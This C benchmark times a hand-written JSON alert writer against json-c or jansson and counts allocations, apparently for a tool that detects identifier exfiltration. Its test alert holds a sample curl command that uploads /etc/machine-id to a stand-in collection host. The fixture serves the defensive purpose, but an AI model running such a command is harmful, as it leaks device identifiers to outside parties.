// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/* json_alert: alerts/s and heap allocations per alert of the hand-written JSON writer and of
 * json-c or jansson building the same alert record (issue 18, item 5). `make bench-json`.
 *
 * Built twice, with -DBENCH_JSONC and with -DBENCH_JANSSON: the two libraries cannot share a
 * program, both define json_object_get() and json_object_iter_next() (with other meanings). Each
 * binary times the hand-written writer and its library in the same process, alternately. The
 * names clash with json.h too: json-c's json_bool type (renamed here for the header only) and
 * jansson's json_string() and json_null() functions, so the jansson binary links a copy of
 * libjansson.a whose two symbols objcopy renamed (mk/bench.mk).
 *
 * The hand-written writer runs alert.c's own alert_record(); the library builder below follows it
 * member by member. Each writer's record is checked, before anything is timed, to be valid UTF-8
 * (a strict validator) and to parse (jsonread.c) to the hand-written record, "ts" aside. The
 * library gets its strings through utf8_repair() first (what adopting it would need: neither
 * library turns bytes that are not UTF-8 into valid JSON by itself; the last line of the report
 * shows what it does without the repair).
 *
 * Allocations are calls of malloc, calloc and realloc (the definition of run.py's AllocCounter),
 * counted by interposing them here, so the libraries' own calls are counted too. */
#define _GNU_SOURCE
#include <errno.h>
#include <getopt.h>
#if defined(BENCH_JSONC) == defined(BENCH_JANSSON)
#error "build with one of -DBENCH_JSONC, -DBENCH_JANSSON"
#endif
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#include "alert.h"
#include "destination.h"
#include "encode.h"
#include "json.h"
#include "jsonread.h"
#include "policy.h"
#include "proctable.h"
#include "values.h"

#ifdef BENCH_JANSSON
#define json_string jansson_string
#define json_null jansson_null
#include <jansson.h>
#else
#define json_bool json_c_bool
#include <json-c/json.h>
#undef json_bool
#endif

/* -- allocation counting: every malloc, calloc and realloc of the process, libraries included -- */

extern void *__libc_malloc(size_t size);
extern void *__libc_calloc(size_t n, size_t size);
extern void *__libc_realloc(void *p, size_t size);
extern void __libc_free(void *p);

static unsigned long long n_allocs;

void *malloc(size_t size)
{
	n_allocs++;
	return __libc_malloc(size);
}

void *calloc(size_t n, size_t size)
{
	n_allocs++;
	return __libc_calloc(n, size);
}

void *realloc(void *p, size_t size)
{
	n_allocs++;
	return __libc_realloc(p, size);
}

void free(void *p)
{
	__libc_free(p);
}

/* -- UTF-8 -- */

/* Length of the well-formed UTF-8 sequence at s (RFC 3629 section 4: no overlong forms, no
 * surrogates, nothing above U+10FFFF), or 0. */
static size_t utf8_len(const unsigned char *s, size_t n)
{
	unsigned char lo = 0x80, hi = 0xbf;
	size_t k, i;

	if (s[0] < 0x80)
		return 1;
	if (s[0] >= 0xc2 && s[0] <= 0xdf)
		k = 2;
	else if (s[0] >= 0xe0 && s[0] <= 0xef)
		k = 3;
	else if (s[0] >= 0xf0 && s[0] <= 0xf4)
		k = 4;
	else
		return 0;
	if (s[0] == 0xe0)
		lo = 0xa0;
	else if (s[0] == 0xed)
		hi = 0x9f;
	else if (s[0] == 0xf0)
		lo = 0x90;
	else if (s[0] == 0xf4)
		hi = 0x8f;
	if (k > n || s[1] < lo || s[1] > hi)
		return 0;
	for (i = 2; i < k; i++)
		if ((s[i] & 0xc0) != 0x80)
			return 0;
	return k;
}

static int utf8_valid(const char *s, size_t n)
{
	size_t i, k;

	for (i = 0; i < n; i += k) {
		k = utf8_len((const unsigned char *)s + i, n - i);
		if (!k)
			return 0;
	}
	return 1;
}

/* A reused output buffer, so that repair costs no allocation once it has grown. */
static char *repair_buf;
static size_t repair_cap;

/* s itself when it is UTF-8; else a copy in which every byte outside a well-formed sequence
 * becomes U+0080..U+00FF, the code point json.c writes for it as \u00XX. *len is updated. */
static const char *utf8_repair(const char *s, size_t *len)
{
	const unsigned char *u = (const unsigned char *)s;
	size_t n = *len, i, k, o = 0;

	for (i = 0; i < n && u[i] < 0x80; i++)
		;
	if (i == n || utf8_valid(s + i, n - i))
		return s;
	if (repair_cap < 2 * n + 1) {
		repair_cap = 2 * n + 1;
		repair_buf = realloc(repair_buf, repair_cap);
		if (!repair_buf) {
			fprintf(stderr, "json_alert: out of memory\n");
			exit(1);
		}
	}
	for (i = 0; i < n; i += k) {
		k = utf8_len(u + i, n - i);
		if (k) {
			memcpy(repair_buf + o, s + i, k);
			o += k;
		} else {
			repair_buf[o++] = 0xc0 | (u[i] >> 6);
			repair_buf[o++] = 0x80 | (u[i] & 0x3f);
			k = 1;
		}
	}
	repair_buf[o] = 0;
	*len = o;
	return repair_buf;
}

/* -- the alert -- */

/* What an alert on a curl that a process renamed with bytes that are not UTF-8 looks like:
 * three identifiers (a file, a Binder getter, a raw MAC), a host name, every evidence member. */
static struct identifier_def idents[] = {
	{ .name = "machine-id", .bit = 0 },
	{ .name = "imei", .bit = 1 },
	{ .name = "mac-address", .bit = 2 },
};
static struct rule_def rule = { .name = "identifier-exfiltration", .severity = "high" };
static struct policy policy = { .idents = idents, .n_idents = 3, .rules = &rule, .n_rules = 1 };
static uint8_t v_machine[] = "3d1200a8c5e94b6c9f0e2d7a61b4fda4";
static uint8_t v_imei[] = "356938035643809";
static uint8_t v_mac[] = { 0x02, 0x42, 0xac, 0x11, 0x00, 0x02 };
static struct known_value values[] = {
	{ .bit = 0, .source = "file", .path = "/etc/machine-id", .bytes = v_machine, .len = 32 },
	{ .bit = 1, .source = "binder", .path = "com.android.internal.telephony.ITelephony#136",
	  .bytes = v_imei, .len = 15 },
	{ .bit = 2, .source = "ioctl", .path = "SIOCGIFHWADDR", .bytes = v_mac, .len = 6 },
};
static char exe[] = "/tmp/.cache/\xff\xfe" "upd\xc3\xa4ter \"x\"\\\xe0\x80\xaf";
static char cmdline[] = "curl -s -H 'X-Id: \t\"3d12\"' --data-binary @/etc/machine-id "
			"http://collect.example.net:8080/v1/\xc3\x28ping?q=\x1b[0m\xed\xa0\x80";
static char lineage[] = "cat[412] -pipe-> sh[413] -fork-> \xc0\xaf" "curl[414]";
static struct proc proc = {
	.tgid = 414, .ppid = 413, .uid = 1000, .comm = "upd\xe4ter\x01\xff\"\\", .exe = exe,
	.cmdline = cmdline,
};
static struct destination dst = {
	.family = AF_INET, .addr = { 10, 231, 7, 2 }, .port = 8080, .proto = "tcp",
	.text = "10.231.7.2", .host = "collect.example.net",
};

static void fill_alert(struct alert_desc *a)
{
	memset(a, 0, sizeof(*a));
	a->rule = &rule;
	a->action = "blocked";
	a->confirmed = 1;
	a->proc = &proc;
	a->idents[0] = (struct alert_ident){ .bit = 0, .value = &values[0] };
	a->idents[1] = (struct alert_ident){ .bit = 1, .value = &values[1] };
	a->idents[2] = (struct alert_ident){ .bit = 2, .value = &values[2], .source = "netlink",
					    .path = "RTM_GETLINK" };
	a->n_idents = 3;
	a->dst = &dst;
	a->channel = "socket";
	a->enc = ENC_BASE64;
	a->offset = 149;
	a->call = "sendto";
	a->bytes = 182;
	a->sampled = 182;
	a->hook = "connect4";
	a->seen_by = "sk_msg";
	a->note = "value split over 2 sends";
	a->lineage = lineage;
}

static struct alert_sink sink = { .policy = &policy, .show_values = 1 };

/* The members alert_record() writes for one identifier, and for the destination: both library
 * builders ask these the same questions. */
struct ident_view {
	const char *name, *source, *path;
	size_t iface_len; /* Binder: path[0..iface_len) is the interface; 0 otherwise */
	unsigned long code;
	const char *value; /* NULL: null */
	size_t value_len;
	char redacted[64];
};

static void ident_view(const struct alert_ident *id, struct ident_view *w)
{
	const struct known_value *v = id->value;

	memset(w, 0, sizeof(*w));
	w->name = id->bit < sink.policy->n_idents ? sink.policy->idents[id->bit].name : "unknown";
	w->source = id->source ? id->source : v ? v->source : "file";
	w->path = id->source ? id->path : v ? v->path : NULL;
	if (w->path && !strcmp(w->source, "binder")) {
		const char *hash = strrchr(w->path, '#');

		if (hash) {
			w->iface_len = hash - w->path;
			w->code = strtoul(hash + 1, NULL, 10);
		}
	}
	if (!v)
		return;
	if (sink.show_values) {
		w->value = (const char *)v->bytes;
		w->value_len = v->len;
	} else {
		redact_value(v->bytes, v->len, w->redacted, sizeof(w->redacted));
		w->value = w->redacted;
		w->value_len = strlen(w->redacted);
	}
}

static const char *family_name(int family)
{
	return family == AF_INET6 ? "ipv6" : family == AF_PACKET ? "link" : "ipv4";
}

static void now_rfc3339(char *buf, size_t size)
{
	struct timespec now;

	clock_gettime(CLOCK_REALTIME, &now);
	format_rfc3339(&now, buf, size);
}

/* -- the writers: each builds one record and hands its text to sink_text() -- */

static volatile size_t sunk;

static void sink_text(const char *s, size_t n)
{
	sunk += n + (unsigned char)s[n / 2];
}

/* The last record of each writer, kept for the comparison (only outside the timed loops). */
static int keeping;
static char *keep;
static size_t keep_len;

static void keep_text(const char *s, size_t n)
{
	if (!keeping)
		return;
	free(keep);
	keep = malloc(n + 1);
	memcpy(keep, s, n);
	keep[n] = 0;
	keep_len = n;
}

static int handwritten(const struct alert_desc *a)
{
	struct json j;

	json_init(&j);
	alert_record(&j, &sink, a);
	json_object_end(&j);
	if (j.failed) {
		json_free(&j);
		return -1;
	}
	sink_text(j.s, j.len);
	keep_text(j.s, j.len);
	json_free(&j);
	return 0;
}

/* raw: hand strings to the library as they are, to see what it does with bytes that are not
 * UTF-8 (the UTF-8 rows of the report); otherwise utf8_repair() first. */
static int lib_raw;

#ifdef BENCH_JANSSON
/* jansson: json_stringn_nocheck after the repair (it would check again otherwise); in raw mode
 * json_stringn, which is what a caller without a repair of its own would use. */
static json_t *jn_str(const char *s, size_t n)
{
	if (!s)
		return json_null();
	if (lib_raw)
		return json_stringn(s, n);
	s = utf8_repair(s, &n);
	return json_stringn_nocheck(s, n);
}

static json_t *jn_cstr(const char *s)
{
	return jn_str(s, s ? strlen(s) : 0);
}

#define JN_SET(obj, key, val) json_object_set_new_nocheck(obj, key, val)

static json_t *jansson_tree(const struct alert_desc *a)
{
	const struct proc *p = a->proc;
	const struct destination *d = a->dst;
	json_t *root = json_object(), *o, *arr;
	char ts[64];
	size_t i;

	now_rfc3339(ts, sizeof(ts));
	JN_SET(root, "type", json_string_nocheck("alert"));
	JN_SET(root, "ts", json_string_nocheck(ts));
	JN_SET(root, "rule", jn_cstr(a->rule->name));
	JN_SET(root, "severity",
	       jn_cstr(a->confirmed ? a->rule->severity : lower_severity(a->rule->severity)));
	JN_SET(root, "action", jn_cstr(a->action));
	JN_SET(root, "confidence", json_string_nocheck(a->confirmed ? "confirmed" : "suspected"));

	o = json_object();
	JN_SET(o, "pid", json_integer(p->tgid));
	JN_SET(o, "ppid", json_integer(p->ppid));
	JN_SET(o, "uid", json_integer(p->uid));
	JN_SET(o, "comm", jn_cstr(p->comm));
	JN_SET(o, "exe", jn_cstr(p->exe));
	JN_SET(o, "cmdline", jn_cstr(p->cmdline));
	JN_SET(root, "process", o);

	arr = json_array();
	for (i = 0; i < a->n_idents; i++) {
		struct ident_view w;

		ident_view(&a->idents[i], &w);
		o = json_object();
		JN_SET(o, "name", jn_cstr(w.name));
		JN_SET(o, "source", jn_cstr(w.source));
		JN_SET(o, "path", jn_cstr(w.path));
		if (w.iface_len) {
			JN_SET(o, "interface", jn_str(w.path, w.iface_len));
			JN_SET(o, "code", json_integer(w.code));
		}
		JN_SET(o, "value", jn_str(w.value, w.value_len));
		json_array_append_new(arr, o);
	}
	JN_SET(root, "identifiers", arr);

	o = json_object();
	JN_SET(o, "proto", jn_cstr(d->proto));
	if (!strcmp(d->proto, "sms")) {
		JN_SET(o, "addr", jn_cstr(d->text));
	} else {
		JN_SET(o, "family", json_string_nocheck(family_name(d->family)));
		JN_SET(o, "addr", jn_cstr(d->text));
		JN_SET(o, "port", json_integer(d->port));
		JN_SET(o, "host", jn_cstr(d->host));
	}
	JN_SET(root, "destination", o);

	o = json_object();
	JN_SET(o, "channel", jn_cstr(a->channel));
	if (a->layer)
		JN_SET(o, "layer", jn_cstr(a->layer));
	if (a->confirmed) {
		JN_SET(o, "encoding", jn_cstr(encoding_name(a->enc)));
		JN_SET(o, "offset", json_integer(a->offset));
	}
	if (a->call)
		JN_SET(o, "call", jn_cstr(a->call));
	if (a->bytes >= 0)
		JN_SET(o, "bytes", json_integer(a->bytes));
	if (a->sampled >= 0)
		JN_SET(o, "sampled", json_integer(a->sampled));
	if (a->hook)
		JN_SET(o, "hook", jn_cstr(a->hook));
	if (a->seen_by)
		JN_SET(o, "seen_by", jn_cstr(a->seen_by));
	if (a->note)
		JN_SET(o, "note", jn_cstr(a->note));
	JN_SET(root, "evidence", o);
	if (a->lineage)
		JN_SET(root, "lineage", jn_cstr(a->lineage));
	return root;
}

/* json_dumpb into a buffer kept across records (json_dumps would cost an allocation more). */
static char *dump_buf;
static size_t dump_cap;

static int jansson_writer(const struct alert_desc *a)
{
	json_t *root = jansson_tree(a);
	size_t n;

	n = json_dumpb(root, dump_buf, dump_cap, JSON_COMPACT);
	if (n > dump_cap) {
		dump_cap = n * 2;
		dump_buf = realloc(dump_buf, dump_cap);
		n = json_dumpb(root, dump_buf, dump_cap, JSON_COMPACT);
	}
	json_decref(root);
	if (!n)
		return -1; /* the dump failed: bytes that are not UTF-8, in raw mode */
	sink_text(dump_buf, n);
	keep_text(dump_buf, n);
	return 0;
}

#else
/* json-c: constant keys that are known to be new (its fastest way to add a member). */
static struct json_object *jc_str(const char *s, size_t n)
{
	if (!s)
		return NULL; /* json-c's null */
	if (!lib_raw)
		s = utf8_repair(s, &n);
	return json_object_new_string_len(s, (int)n);
}

static struct json_object *jc_cstr(const char *s)
{
	return jc_str(s, s ? strlen(s) : 0);
}

#define JC_SET(obj, key, val)                                                                      \
	json_object_object_add_ex(obj, key, val,                                                   \
				  JSON_C_OBJECT_ADD_KEY_IS_NEW | JSON_C_OBJECT_KEY_IS_CONSTANT)

static struct json_object *jsonc_tree(const struct alert_desc *a)
{
	const struct proc *p = a->proc;
	const struct destination *d = a->dst;
	struct json_object *root = json_object_new_object(), *o, *arr;
	char ts[64];
	size_t i;

	now_rfc3339(ts, sizeof(ts));
	JC_SET(root, "type", json_object_new_string("alert"));
	JC_SET(root, "ts", json_object_new_string(ts));
	JC_SET(root, "rule", jc_cstr(a->rule->name));
	JC_SET(root, "severity",
	       jc_cstr(a->confirmed ? a->rule->severity : lower_severity(a->rule->severity)));
	JC_SET(root, "action", jc_cstr(a->action));
	JC_SET(root, "confidence",
	       json_object_new_string(a->confirmed ? "confirmed" : "suspected"));

	o = json_object_new_object();
	JC_SET(o, "pid", json_object_new_uint64(p->tgid));
	JC_SET(o, "ppid", json_object_new_uint64(p->ppid));
	JC_SET(o, "uid", json_object_new_uint64(p->uid));
	JC_SET(o, "comm", jc_cstr(p->comm));
	JC_SET(o, "exe", jc_cstr(p->exe));
	JC_SET(o, "cmdline", jc_cstr(p->cmdline));
	JC_SET(root, "process", o);

	arr = json_object_new_array_ext((int)a->n_idents);
	for (i = 0; i < a->n_idents; i++) {
		struct ident_view w;

		ident_view(&a->idents[i], &w);
		o = json_object_new_object();
		JC_SET(o, "name", jc_cstr(w.name));
		JC_SET(o, "source", jc_cstr(w.source));
		JC_SET(o, "path", jc_cstr(w.path));
		if (w.iface_len) {
			JC_SET(o, "interface", jc_str(w.path, w.iface_len));
			JC_SET(o, "code", json_object_new_uint64(w.code));
		}
		JC_SET(o, "value", jc_str(w.value, w.value_len));
		json_object_array_add(arr, o);
	}
	JC_SET(root, "identifiers", arr);

	o = json_object_new_object();
	JC_SET(o, "proto", jc_cstr(d->proto));
	if (!strcmp(d->proto, "sms")) {
		JC_SET(o, "addr", jc_cstr(d->text));
	} else {
		JC_SET(o, "family", json_object_new_string(family_name(d->family)));
		JC_SET(o, "addr", jc_cstr(d->text));
		JC_SET(o, "port", json_object_new_uint64(d->port));
		JC_SET(o, "host", jc_cstr(d->host));
	}
	JC_SET(root, "destination", o);

	o = json_object_new_object();
	JC_SET(o, "channel", jc_cstr(a->channel));
	if (a->layer)
		JC_SET(o, "layer", jc_cstr(a->layer));
	if (a->confirmed) {
		JC_SET(o, "encoding", jc_cstr(encoding_name(a->enc)));
		JC_SET(o, "offset", json_object_new_int64(a->offset));
	}
	if (a->call)
		JC_SET(o, "call", jc_cstr(a->call));
	if (a->bytes >= 0)
		JC_SET(o, "bytes", json_object_new_int64(a->bytes));
	if (a->sampled >= 0)
		JC_SET(o, "sampled", json_object_new_int64(a->sampled));
	if (a->hook)
		JC_SET(o, "hook", jc_cstr(a->hook));
	if (a->seen_by)
		JC_SET(o, "seen_by", jc_cstr(a->seen_by));
	if (a->note)
		JC_SET(o, "note", jc_cstr(a->note));
	JC_SET(root, "evidence", o);
	if (a->lineage)
		JC_SET(root, "lineage", jc_cstr(a->lineage));
	return root;
}

static int jsonc_writer(const struct alert_desc *a)
{
	struct json_object *root = jsonc_tree(a);
	const char *s;
	size_t n;

	/* json-c writes "/" as "\/" unless told not to; paths are full of them */
	s = json_object_to_json_string_length(root, JSON_C_TO_STRING_PLAIN |
						    JSON_C_TO_STRING_NOSLASHESCAPE, &n);
	if (!s) {
		json_object_put(root);
		return -1;
	}
	sink_text(s, n);
	keep_text(s, n);
	json_object_put(root);
	return 0;
}

#endif

struct writer {
	const char *name;
	int (*write)(const struct alert_desc *a);
	double rate[64];
	double allocs;
	size_t bytes;
};

static struct writer writers[] = {
	{ .name = "hand-written (json.c)", .write = handwritten },
#ifdef BENCH_JANSSON
	{ .name = "jansson " JANSSON_VERSION " + repair", .write = jansson_writer },
#define LIB_RAW_NAME "jansson, strings as they are"
#else
	{ .name = "json-c " JSON_C_VERSION " + repair", .write = jsonc_writer },
#define LIB_RAW_NAME "json-c, strings as they are"
#endif
};
#define N_WRITERS (sizeof(writers) / sizeof(writers[0]))

/* -- checks -- */

/* Equal values; at the top level (top set) the "ts" member is left out of the comparison. */
static int jval_equal(const struct jval *a, const struct jval *b, int top)
{
	const struct jval *x, *y;

	if (a->type != b->type)
		return 0;
	switch (a->type) {
	case J_NULL:
		return 1;
	case J_BOOL:
		return a->b == b->b;
	case J_NUM:
	case J_STR:
		return a->len == b->len && !memcmp(a->str, b->str, a->len);
	case J_ARR:
	case J_OBJ:
		break;
	}
	for (x = a->child, y = b->child; x || y; x = x->next, y = y->next) {
		if (top && x && x->key && !strcmp(x->key, "ts"))
			x = x->next;
		if (top && y && y->key && !strcmp(y->key, "ts"))
			y = y->next;
		if (!x || !y)
			return !x && !y;
		if (a->type == J_OBJ && strcmp(x->key, y->key))
			return 0;
		if (!jval_equal(x, y, 0))
			return 0;
	}
	return 1;
}

/* Strings and members of want (recursively) that got lacks or has otherwise. */
static int differences(const struct jval *want, const struct jval *got)
{
	const struct jval *w, *g;
	int n = 0;

	if (!got || want->type != got->type)
		return 1;
	if (want->type != J_ARR && want->type != J_OBJ)
		return !jval_equal(want, got, 0);
	for (w = want->child, g = got->child; w; w = w->next) {
		if (want->type == J_OBJ)
			for (g = got->child; g && strcmp(g->key, w->key); g = g->next)
				;
		n += differences(w, g);
		if (want->type == J_ARR && g)
			g = g->next;
	}
	return n;
}

/* A writer's record, which must be valid UTF-8 and parse; 0, or -1 and a reason. */
static int record_of(struct writer *w, const struct alert_desc *a, struct jdoc *d,
		     const char **why)
{
	int err = -1;

	memset(d, 0, sizeof(*d));
	keeping = 1;
	keep = NULL;
	if (w->write(a) || !keep) {
		*why = "the library gave no record";
		goto out;
	}
	w->bytes = keep_len;
	if (!utf8_valid(keep, keep_len)) {
		*why = "the record is not valid UTF-8 (bytes passed through as they are)";
		goto out;
	}
	if (jdoc_parse(d, keep, keep_len)) {
		*why = "the record is not JSON";
		goto out;
	}
	err = 0;
out:
	keeping = 0;
	free(keep);
	keep = NULL;
	return err;
}

/* What the library does with the strings as they are: drop the record, drop members, or pass
 * bytes that are not UTF-8 through. */
static void raw_behaviour(const struct alert_desc *a, const struct jval *want)
{
	const char *why = NULL;
	struct jdoc got;

	lib_raw = 1;
	printf("  %-28s ", LIB_RAW_NAME);
	if (record_of(&writers[1], a, &got, &why))
		printf("%s\n", why);
	else if (!jval_equal(want, got.root, 1))
		printf("valid UTF-8 JSON, but %d members are missing or differ (the library "
		       "refused their strings)\n", differences(want, got.root));
	else
		printf("the same record\n");
	jdoc_free(&got);
	lib_raw = 0;
}

/* -- timing -- */

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int cmp_double(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return x < y ? -1 : x > y;
}

static double median(double *v, int n)
{
	qsort(v, n, sizeof(*v), cmp_double);
	return n % 2 ? v[n / 2] : (v[n / 2 - 1] + v[n / 2]) / 2;
}

static void usage(const char *prog)
{
	fprintf(stderr,
		"usage: %s [--alerts N] [--runs R]\n"
		"  Builds N alert records with each writer, R runs (the writers alternate),\n"
		"  and prints the median alerts/s and the allocations per alert.\n",
		prog);
}

static long parse_num(const char *s, long lo, long hi, const char *what)
{
	char *end;
	long v;

	errno = 0;
	v = strtol(s, &end, 10);
	if (errno || *end || v < lo || v > hi) {
		fprintf(stderr, "json_alert: %s must be %ld..%ld, got '%s'\n", what, lo, hi, s);
		exit(2);
	}
	return v;
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {
		{ "alerts", required_argument, NULL, 'n' },
		{ "runs", required_argument, NULL, 'r' },
		{ "help", no_argument, NULL, 'h' },
		{},
	};
	long alerts = 200000, runs = 7, r, k;
	struct jdoc want, got;
	struct alert_desc a;
	const char *why;
	double base = 0;
	int c, fail = 0;
	size_t i;

	while ((c = getopt_long(argc, argv, "n:r:h", opts, NULL)) != -1) {
		switch (c) {
		case 'n':
			alerts = parse_num(optarg, 1, 100000000, "--alerts");
			break;
		case 'r':
			runs = parse_num(optarg, 1, 63, "--runs");
			break;
		default:
			usage(argv[0]);
			return c == 'h' ? 0 : 2;
		}
	}
	fill_alert(&a);

	/* Every writer must produce the hand-written record, as valid UTF-8 JSON, first. */
	if (record_of(&writers[0], &a, &want, &why)) {
		fprintf(stderr, "json_alert: %s: %s\n", writers[0].name, why);
		return 1;
	}
	for (i = 1; i < N_WRITERS; i++) {
		if (record_of(&writers[i], &a, &got, &why)) {
			fprintf(stderr, "json_alert: %s: %s\n", writers[i].name, why);
			fail = 1;
		} else if (!jval_equal(want.root, got.root, 1)) {
			fprintf(stderr, "json_alert: %s: not the hand-written record\n",
				writers[i].name);
			fail = 1;
		}
		jdoc_free(&got);
	}
	if (fail)
		return 1;

	/* warm-up: buffers kept across records reach their size */
	for (i = 0; i < N_WRITERS; i++)
		for (k = 0; k < 1000; k++)
			writers[i].write(&a);
	for (r = 0; r < runs; r++) {
		for (i = 0; i < N_WRITERS; i++) {
			struct writer *w = &writers[(i + r) % N_WRITERS];
			unsigned long long before = n_allocs;
			double t0 = now_s(), t;

			for (k = 0; k < alerts; k++)
				if (w->write(&a)) {
					fprintf(stderr, "json_alert: %s failed\n", w->name);
					return 1;
				}
			t = now_s() - t0;
			w->rate[r] = alerts / t;
			w->allocs = (double)(n_allocs - before) / alerts;
		}
	}

	printf("  %-28s %12s %9s %13s %7s\n", "writer", "alerts/s", "vs json.c", "allocs/alert",
	       "bytes");
	for (i = 0; i < N_WRITERS; i++) {
		double m = median(writers[i].rate, (int)runs);

		if (i == 0)
			base = m;
		printf("  %-28s %12.0f %8.2fx %13.2f %7zu\n", writers[i].name, m, m / base,
		       writers[i].allocs, writers[i].bytes);
	}
	raw_behaviour(&a, want.root);
	jdoc_free(&want);
#ifdef BENCH_JANSSON
	free(dump_buf);
#endif
	free(repair_buf);
	return sunk == 0;
}
